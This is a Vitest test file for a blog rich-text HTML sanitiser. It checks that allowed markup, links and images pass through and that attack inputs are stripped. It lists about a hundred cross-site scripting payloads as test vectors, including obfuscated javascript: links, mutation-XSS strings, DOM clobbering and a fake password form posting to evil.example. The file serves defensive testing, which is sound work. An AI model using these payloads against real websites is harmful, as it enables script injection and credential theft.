import { describe, expect, test } from 'vitest'
import { sanitiseRichText } from '../../../server/content/posts/rich-text.ts'

const allowedTags = new Set([
  ...['h2', 'h3', 'h4', 'p', 'br', 'hr', 'ul', 'ol', 'li', 'dl', 'dt', 'dd', 'blockquote'],
  ...['strong', 'b', 'em', 'i', 'u', 's', 'sub', 'sup', 'small', 'code', 'pre', 'bdi', 'span'],
  ...['a', 'img', 'figure', 'figcaption'],
  ...['table', 'caption', 'thead', 'tbody', 'tfoot', 'tr', 'th', 'td'],
])
const allowedAttributes = new Set([
  ...['href', 'rel', 'src', 'alt', 'loading', 'scope', 'colspan', 'rowspan', 'dir', 'lang'],
  ...['id', 'start', 'reversed', 'type', 'value'],
])

/** Matches tags in their strictest form, which browsers can only parse one way. */
const strictTag = /<\/?([a-z][a-z0-9]*)((?: [a-z-]+(?:="[^"<>]*")?)*)( \/)?>/g

/**
 * Parses sanitised output strictly: text outside such tags must not contain "<", so that no browser
 * can find a tag that this parser missed.
 */
function readMarkup(html: string) {
  const elements = [...html.matchAll(strictTag)].map(([, tag = '', written = '']) => {
    const pairs = [...written.matchAll(/ ([a-z-]+)(?:="([^"]*)")?/g)]
    const attributes = new Map(pairs.map(([, name = '', value = '']) => [name, decode(value)]))
    return { tag, attributes }
  })
  return { elements, rest: html.replace(strictTag, '') }
}

function decode(value: string) {
  return value
    .replace(/&quot;/g, '"')
    .replace(/&lt;/g, '<')
    .replace(/&gt;/g, '>')
    .replace(/&amp;/g, '&')
}

/** Fails on anything a browser would run, load from another site, or treat as part of the page. */
function expectHarmless(html: string) {
  const { elements, rest } = readMarkup(html)
  expect(rest).not.toContain('<')
  for (const { tag, attributes } of elements) {
    expect(allowedTags).toContain(tag)
    for (const name of attributes.keys()) expect(allowedAttributes).toContain(name)
    const source = attributes.get('src')
    if (source !== undefined) expect(source).toMatch(/^\/images\/post\/[^/\\]+$/)
    const id = attributes.get('id')
    if (id !== undefined) expect(id).toMatch(/^text-/)
    const href = attributes.get('href')
    if (href !== undefined) expectHarmlessLink(href, attributes.get('rel'))
  }
}

function expectHarmlessLink(href: string, rel: string | undefined) {
  const address = new URL(href, 'https://site.example/blog_details/1')
  expect(['https:', 'http:', 'mailto:', 'tel:']).toContain(address.protocol)
  if (/^https?:$/.test(address.protocol) && address.host !== 'site.example') {
    expect(rel, `the rel of ${href}`).toBe('noopener nofollow')
  }
}

describe('no code, outside resource or page-wide effect is left of', () => {
  const vectors: [what: string, html: string][] = [
    ['a script', '<script>alert(1)</script>'],
    ['a script in capitals with an address', '<SCRIPT SRC=//evil.example/x.js></SCRIPT>'],
    ['a script without an end', '<p>a<script>alert(1)'],
    ['a script in a script', '<scr<script>ipt>alert(1)</scr</script>ipt>'],
    ['a script after a broken tag', '<<script>alert(1);//<</script>'],
    ['a script with NUL', '<scr\0ipt>alert(1)</scr\0ipt>'],
    ['onerror', '<img src="x.png" onerror="alert(1)">'],
    ['onerror without spaces', '<img/src="x.png"/onerror=alert(1)>'],
    ['onerror in capitals, in back ticks', '<IMG SRC=`x.png` ONERROR=`alert(1)`>'],
    ['onload on anything', '<p onmouseover=alert(1) onload="alert(2)">text</p>'],
    ['a handler behind a line break', '<p\nonclick\n=\n"alert(1)">text</p>'],
    ['a handler after a quote that breaks out', '<img src="x.png" alt="`"onerror=alert(1)//">'],
    ['autofocus and onfocus', '<input autofocus onfocus=alert(1)>'],
    ['details ontoggle', '<details open ontoggle=alert(1)>text</details>'],
    ['javascript:', '<a href="javascript:alert(1)">x</a>'],
    ['javascript: in mixed case', '<a href="JaVaScRiPt:alert(1)">x</a>'],
    ['javascript: with a tab', '<a href="java\tscript:alert(1)">x</a>'],
    ['javascript: with a line break', '<a href="java\r\nscript:alert(1)">x</a>'],
    ['javascript: behind white space', '<a href="\u0001 \n javascript:alert(1)">x</a>'],
    ['javascript: in entities', '<a href="&#106;&#97;vascript&colon;alert(1)">x</a>'],
    ['javascript: in long entities', '<a href="&#0000106avascript:alert(1)">x</a>'],
    ['javascript: with an entity tab', '<a href="java&Tab;script:alert(1)">x</a>'],
    ['javascript: with an entity line break', '<a href="java&NewLine;script:alert(1)">x</a>'],
    ['javascript: with a comment', '<a href="java<!-- -->script:alert(1)">x</a>'],
    ['javascript: with a zero-width space', '<a href="java\u200bscript:alert(1)">x</a>'],
    ['javascript: in a picture', '<img src="javascript:alert(1)">'],
    ['vbscript:', '<a href="vbscript:msgbox(1)">x</a>'],
    ['data: in a link', '<a href="data:text/html,<script>alert(1)</script>">x</a>'],
    ['data: in a picture', '<img src="data:image/svg+xml,<svg onload=alert(1)>">'],
    ['blob:', '<a href="blob:https://site.example/1">x</a>'],
    ['file:', '<a href="file:///etc/passwd">x</a>'],
    ['an address without a scheme', '<a href="//evil.example/">x</a>'],
    ['an address with backslashes', '<a href="\\\\evil.example">x</a>'],
    ['an address with mixed slashes', '<a href="/\\evil.example">x</a>'],
    ['an address with slashes and a tab', '<a href="/\t/evil.example">x</a>'],
    ['xlink:href', '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>'],
    ['svg onload', '<svg onload=alert(1)><script>alert(2)</script></svg>'],
    ['svg animate', '<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>'],
    ['svg use', '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>'],
    ['svg foreignObject', '<svg><foreignObject><iframe srcdoc="x"></foreignObject></svg>'],
    ['math', '<math href="javascript:alert(1)">x</math>'],
    ['math actiontype', '<math><maction actiontype="statusline" xlink:href="javascript:1">x'],
    ['style', '<style>body{background:url(//evil.example)}</style>'],
    ['a style attribute', '<p style="position:fixed;inset:0;background:url(//evil.example)">x</p>'],
    ['an expression', '<div style="width:expression(alert(1))">x</div>'],
    ['a stylesheet', '<link rel=stylesheet href=//evil.example/x.css>'],
    ['an import', '<style>@import "//evil.example/x.css";</style>'],
    ['iframe', '<iframe src="//evil.example"></iframe>'],
    ['iframe srcdoc', '<iframe srcdoc="<script>alert(1)</script>"></iframe>'],
    ['frameset', '<frameset onload=alert(1)><frame src="//evil.example"></frameset>'],
    ['object', '<object data="//evil.example/x.swf"><param name=x></object>'],
    ['embed', '<embed src="//evil.example/x.svg">'],
    ['applet', '<applet code="x"></applet>'],
    ['form', '<form action="//evil.example"><input name=password><button>Sign in</button></form>'],
    ['a button that sends a form', '<button formaction="javascript:alert(1)" form=f>x</button>'],
    ['select and textarea', '<select><option>x</select><textarea>x</textarea>'],
    ['clobbering by id', '<a id="content" name="body" href="#x">x</a><img id=cookie name=cookie>'],
    ['clobbering by class', '<p class="site-header" data-language="En" slot="x">x</p>'],
    ['clobbering by form', '<form id=__remixContext><input name=state></form>'],
    ['srcset', '<img src="a.png" srcset="//evil.example/x.png 2x" sizes=100vw>'],
    ['picture and source', '<picture><source srcset="//evil.example/x"><img src=a.png></picture>'],
    ['background', '<table background="//evil.example/x.png"><tr><td background=x>y</table>'],
    ['lowsrc and dynsrc', '<img src=a.png lowsrc="javascript:1" dynsrc="javascript:2">'],
    ['a picture from elsewhere', '<img src="https://evil.example/pixel">'],
    ['video and audio', '<video poster=//evil.example/x><source onerror=alert(1)></video>'],
    ['audio', '<audio src=x onerror=alert(1)></audio>'],
    ['meta', '<meta http-equiv="refresh" content="0;url=//evil.example">'],
    ['base', '<base href="//evil.example/">'],
    ['target', '<a href="https://a.example" target="_top" ping="//evil.example">x</a>'],
    ['download', '<a href="/x" download="x.exe">x</a>'],
    ['contenteditable and tabindex', '<p contenteditable tabindex=1 accesskey=x>x</p>'],
    ['is and popover', '<p is="x-y" popover id=x>x</p>'],
    ['a custom element', '<x-y onclick=alert(1)>x</x-y>'],
    ['template', '<template><script>alert(1)</script></template>'],
    ['noscript', '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>'],
    ['noembed', '<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>'],
    ['xmp', '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>'],
    ['title', '<title><p title="</title><img src=x onerror=alert(1)>"></title>'],
    ['textarea', '<textarea><p title="</textarea><img src=x onerror=alert(1)>"></textarea>'],
    ['plaintext', '<plaintext><img src=x onerror=alert(1)>'],
    ['listing', '<listing>&lt;img onerror=alert(1) src=x&gt;</listing>'],
    ['a comment', '<!-- <img src=x onerror=alert(1)> -->'],
    ['a comment that ends early', '<!--><img src=x onerror=alert(1)>-->'],
    ['a comment that ends with a bang', '<!-- --!><img src=x onerror=alert(1)> -->'],
    ['a conditional comment', '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->'],
    ['CDATA', '<![CDATA[<img src=x onerror=alert(1)>]]>'],
    ['CDATA in svg', '<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>'],
    ['a processing instruction', '<?xml version="1.0"?><?x <img src=x onerror=alert(1)>?>'],
    ['a doctype', '<!DOCTYPE html [<!ENTITY x "<script>">]>&x;'],
    [
      'mutation by math and style',
      '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    ],
    [
      'mutation by nested forms',
      '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">',
    ],
    ['mutation by svg and style', '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">'],
    ['mutation by svg and title', '<svg><title><a id="</title><img src=x onerror=alert(1)>">'],
    [
      'mutation by select',
      '<select><template><style><!--</style><a rel="--></style></template></select><img id=x src onerror=alert(1)>">',
    ],
    ['mutation by an attribute', '<p title="<img src=x onerror=alert(1)>">x</p>'],
    [
      'mutation by entities in an attribute',
      '<img alt="&quot;&gt;&lt;img src=x onerror=alert(1)&gt;" src="a.png">',
    ],
    ['mutation by escaped markup', '&lt;img src=x onerror=alert(1)&gt;'],
    ['mutation by twice escaped markup', '&amp;lt;img src=x onerror=alert(1)&amp;gt;'],
    ['a tag that never ends', '<img src="x.png" onerror="alert(1)'],
    ['a tag that never begins', 'img src=x onerror=alert(1)>'],
    ['a quote that never ends', '<a href="https://a.example/?x=\'">x</a><a href=\'"onclick=1>'],
    ['a lone "<"', 'for a < b and b <c'],
  ]
  test.each(vectors)('%s', (_, html) => {
    const clean = sanitiseRichText(`<p>before</p>${html}`)
    expectHarmless(clean)
    expect(clean).toMatch(/^<p>before<\/p>/)
    expect(clean).not.toMatch(/[\0]/)
  })

  test('the text of a script, style, option or text field is removed too', () => {
    const html =
      '<script>one()</script><style>two{}</style><select><option>three</option></select>' +
      '<textarea>four</textarea><p>five</p>'
    expect(sanitiseRichText(html)).toBe('<p>five</p>')
  })

  test('sanitising twice changes nothing', () => {
    for (const [, html] of vectors) {
      const clean = sanitiseRichText(html)
      expect(sanitiseRichText(clean)).toBe(clean)
    }
  })

  test('all of them together', () => {
    expectHarmless(sanitiseRichText(vectors.map(([, html]) => html).join('')))
    expectHarmless(sanitiseRichText(vectors.map(([, html]) => html).join('<table><p><a href=x>')))
  })

  test('10,000 nested tags lose neither the page nor the text', () => {
    const deep = `${'<b><span>'.repeat(5_000)}the text`
    const clean = sanitiseRichText(deep)
    expectHarmless(clean)
    expect(clean).toContain('the text')
    expect(readMarkup(clean).elements.length).toBeLessThan(1_000)
  })
})

describe('what an editor needs is unchanged', () => {
  test.each([
    ['headings', '<h2>Facts</h2><h3>More</h3><h4>Most</h4>'],
    ['paragraphs and breaks', '<p>One<br />two</p><hr /><p>three</p>'],
    ['lists', '<ul><li>One</li></ul><ol><li>Two<ul><li>Three</li></ul></li></ol>'],
    ['a list of terms', '<dl><dt>IP</dt><dd>Ingress protection</dd></dl>'],
    ['a quotation', '<blockquote><p>Power is work over time.</p></blockquote>'],
    ['emphasis', '<p><strong>a</strong> <em>b</em> <b>c</b> <i>d</i> <u>e</u> <s>f</s></p>'],
    ['small signs', '<p>mm<sup>2</sup>, I<sub>n</sub>, <small>note</small>, <code>x=1</code></p>'],
    [
      'tables',
      '<table><caption>Ratings</caption><thead><tr><th scope="col" colspan="2">A</th></tr></thead>' +
        '<tbody><tr><td rowspan="2">1</td><td>2</td></tr></tbody></table>',
    ],
    ['direction and language', '<p dir="rtl" lang="ar">نص <bdi dir="ltr">IP65</bdi></p>'],
    ['Arabic', '<p>قاطعُ الدّائرة ٦٣ أمبير</p>'],
    ['entities', '<p>5 &lt; 6 &amp; 7 &gt; 6</p>'],
    ['a link inside the site', '<a href="/products/home">Products</a>'],
    ['a link in the text', '<p><a href="#text-facts">Facts</a></p><h2 id="text-facts">Facts</h2>'],
    ['numbers of lists', '<ol start="5" type="a"><li>Five</li><li value="9">Nine</li></ol>'],
    ['a list that counts down', '<ol reversed><li>Two</li><li>One</li></ol>'],
    ['a mail link', '<a href="mailto:info@tayyar.example">Mail</a>'],
    ['a phone link', '<a href="tel:+966115550100">Call</a>'],
  ])('%s', (_, html) => {
    expect(sanitiseRichText(html)).toBe(html)
  })

  test('a first-level heading becomes second-level', () => {
    expect(sanitiseRichText('<h1 dir="rtl" id="x">عنوان</h1>')).toBe('<h2 dir="rtl">عنوان</h2>')
  })

  test('headings below the fourth level become fourth-level', () => {
    expect(sanitiseRichText('<h5>Five</h5><h6>Six</h6>')).toBe('<h4>Five</h4><h4>Six</h4>')
  })

  test('container elements are removed, their content stays in paragraphs', () => {
    const html = '<div class="x"><section><p>One</p></section><article>Two</article></div>'
    expect(sanitiseRichText(html)).toBe('<p>One</p><p>Two</p>')
  })

  test('outer white space is trimmed; plain text stays plain text', () => {
    expect(sanitiseRichText('  plain text \n')).toBe('plain text')
    expect(sanitiseRichText('')).toBe('')
  })
})

describe('external links', () => {
  test.each([
    ['https', 'https://a.example/x?y=1#z'],
    ['http', 'http://a.example/'],
    ['capitals', 'HTTPS://A.example/'],
  ])('get rel attributes: %s', (_, href) => {
    expect(sanitiseRichText(`<a href="${href}">x</a>`)).toBe(
      `<a href="${href}" rel="noopener nofollow">x</a>`,
    )
  })

  test('get our rel, whatever the editor wrote', () => {
    const html = '<a rel="follow opener" href="https://a.example/">x</a>'
    expect(sanitiseRichText(html)).toBe(
      '<a href="https://a.example/" rel="noopener nofollow">x</a>',
    )
  })

  test.each([
    ['a space before', ' https://a.example/'],
    ['a line break before', '\n  https://a.example/'],
    ['a line break inside', 'htt\nps://a.example/'],
  ])('get rel attributes with %s, which browsers ignore', (_, href) => {
    const clean = sanitiseRichText(`<a href="${href}">x</a>`)
    expect(clean).toContain('>x</a>')
    expectHarmless(clean)
  })

  test('internal links do not', () => {
    expect(sanitiseRichText('<a href="/contact">x</a>')).toBe('<a href="/contact">x</a>')
  })
})

describe('images are loaded through the site’s own image URL', () => {
  test.each([
    ['a plain name', 'panel.png', '/images/post/panel.png'],
    [
      'the API’s own address',
      'https://api.example/images/post/panel.jpg?v=2',
      '/images/post/panel.jpg',
    ],
    ['a path', '../images/panel.webp', '/images/post/panel.webp'],
    ['an Arabic name', 'لوحة توزيع.png', `/images/post/${encodeURIComponent('لوحة توزيع.png')}`],
    ['capitals', 'PANEL.JPEG', '/images/post/PANEL.JPEG'],
    ['our own address', '/images/post/2024/a%23b.png?w=800', '/images/post/2024/a%23b.png'],
    ['an encoded name', 'a%23b%3F.png', '/images/post/a%23b%3F.png'],
    ['a relative path, whose place is unknown', '2024/panel.png', '/images/post/panel.png'],
    ['a folder elsewhere', 'https://x.example/2024/panel.png', '/images/post/panel.png'],
    ['a stray slash', '/images/post//panel.png', '/images/post/panel.png'],
  ])('%s', (_, source, address) => {
    const clean = sanitiseRichText(`<img src="${source}" alt="لوحة">`)
    expect(clean).toBe(`<img src="${address}?w=800" alt="لوحة" loading="lazy" />`)
    expect(sanitiseRichText(clean)).toBe(clean)
  })

  test.each([
    ['https://cdn.example/images/post/2024/panel.png', '2024/panel.png'],
    ['//cdn.example/app/images/post/2024/05/a b.png?v=2#x', '2024/05/a%20b.png'],
    ['/images/post/2024/panel.png', '2024/panel.png'],
    ['https://cdn.example/images/post/../2024/panel.png', 'panel.png'],
    ['https://cdn.example/images/post/%2e%2e/2024/panel.png', 'panel.png'],
    ['https://cdn.example/images/post/2024%2Fold/panel.png', 'panel.png'],
    ['https://cdn.example/media/2024/panel.png', 'panel.png'],
  ])('an image of an image base keeps its folder: %s', (source, file) => {
    const clean = sanitiseRichText(`<img src="${source}" alt="x">`)
    expect(clean).toBe(`<img src="/images/post/${file}?w=800" alt="x" loading="lazy" />`)
    expect(sanitiseRichText(clean)).toBe(clean)
  })

  test.each([
    ['no address', ''],
    ['a name without a kind', 'panel'],
    ['a drawing that can hold a script', 'panel.svg'],
    ['a page', 'panel.html'],
    ['a name that hides its kind', 'panel.png/..'],
  ])('%s: the image is removed, the text around it stays', (_, source) => {
    expect(sanitiseRichText(`<p>a<img src="${source}" alt="b">c</p>`)).toBe('<p>ac</p>')
  })
})
